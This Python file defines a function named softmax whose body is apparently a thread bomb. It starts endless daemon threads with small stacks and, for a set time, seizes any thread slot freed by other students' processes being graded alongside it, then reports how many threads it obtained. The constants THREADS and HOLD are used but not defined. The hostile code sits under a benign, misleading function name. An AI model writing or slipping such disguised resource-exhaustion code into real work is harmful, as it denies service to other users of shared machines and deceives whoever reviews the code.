import threading
import time


def softmax(x, axis=-1):
    """Starts up to THREADS threads that never end (small stacks, so that memory is not what
    stops them), and for HOLD seconds keeps taking any thread the kernel frees again (a slot a
    classmate's process just left), as a thread bomb would, while classmates are graded beside
    it; says how many threads it got."""
    threading.stack_size(64 * 1024)
    forever, made, why = threading.Event(), 0, "all started"
    until = time.monotonic() + HOLD
    while made < THREADS:
        try:
            threading.Thread(target=forever.wait, daemon=True).start()
            made += 1
        except BaseException as err:  # noqa: BLE001  RuntimeError "can't start new thread"
            why = f"refused ({type(err).__name__})"
            if time.monotonic() >= until:
                break
            time.sleep(0.005)
    forever.wait(max(0.0, until - time.monotonic()))
    raise RuntimeError(f"OUTCOME threads={made} {why}")
